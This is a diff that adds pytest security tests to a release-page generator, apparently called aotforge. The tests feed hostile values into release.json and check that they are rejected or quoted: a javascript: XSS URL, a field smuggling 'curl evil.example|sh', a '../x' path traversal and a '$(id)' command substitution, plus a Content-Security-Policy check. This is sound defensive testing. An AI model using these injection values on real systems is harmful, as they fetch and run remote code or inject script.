@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import html
+import json
 import re
+import shutil
 import threading
 from collections.abc import Iterator
 from functools import partial
@@ -17,6 +21,7 @@ from aotforge.base.files import write_atomic
 from aotforge.conformance.matrix import load_matrix
 from aotforge.conformance.matrix_show import matrix_html
 from aotforge.deliver.page import INDEX, human_size, make_page, read_page
+from aotforge.errors import ReleaseError
 from aotforge.formats.archive import sha256_file
 from aotforge.release.assemble import assemble_release
 from aotforge.release.finalize import finalize_release
@@ -170,3 +175,53 @@ def test_text_can_be_read(scheme: str, chromium: Browser, address: str, tmp_path
     assert (luminance(background) > 0.5) == (scheme == "light")
     chromium.screenshot(tmp_path / f"{scheme}.png")
     assert (tmp_path / f"{scheme}.png").stat().st_size > 10_000
+
+
+@pytest.mark.parametrize(
+    ("path", "value"),
+    [
+        (("release",), "javascript:alert(document.domain)//"),
+        (("release",), "0.11.2b-r7"),
+        (("release",), ["x"]),
+        (("packs", 0, "archs"), ["gfx908; curl evil.example|sh #"]),
+        (("packs", 0, "archs"), []),
+        (("packs", 0, "name"), "../x"),
+        (("packs",), []),
+        (("packs",), [1]),
+        (("origin",), {}),
+        (("toolchain", "triton_version"), None),
+    ],
+)
+def test_fields_in_links_and_commands_are_checked(
+    path: tuple[str | int, ...], value: object, site: Path, tmp_path: Path
+) -> None:
+    """The sums fit: whoever made the folder made them too."""
+    original = next(site.glob("*/release.json")).parent
+    folder = shutil.copytree(original, tmp_path / original.name)
+    document = json.loads((folder / "release.json").read_bytes())
+    place = document
+    for key in path[:-1]:
+        place = place[key]
+    place[path[-1]] = value
+    (folder / "release.json").write_text(json.dumps(document))
+    sums = (folder / "SHA256SUMS").read_text()
+    old = sha256_file(original / "release.json")
+    (folder / "SHA256SUMS").write_text(sums.replace(old, sha256_file(folder / "release.json")))
+    with pytest.raises(ReleaseError, match=r"release\.json cannot be shown"):
+        read_page(folder, base_url=BASE)
+
+
+def test_the_page_loads_nothing_and_runs_its_own_script_only(site: Path) -> None:
+    text = (site / INDEX).read_text()
+    script = text.partition("<script>")[2].partition("</script>")[0]
+    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
+    policy = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', text)
+    assert len(policy) == 1 and "default-src 'none'" in policy[0]
+    assert f"script-src 'sha256-{digest}'" in policy[0] and len(script) > 100
+
+
+def test_an_address_is_one_word_of_a_command(site: Path) -> None:
+    folder = next(site.glob("*/release.json")).parent
+    release = read_page(folder, base_url="https://e.org/$(id)/a b")
+    text = make_page([release], matrix="").decode()
+    assert "--from &#39;https://e.org/$(id)/a b/&#39;" in text
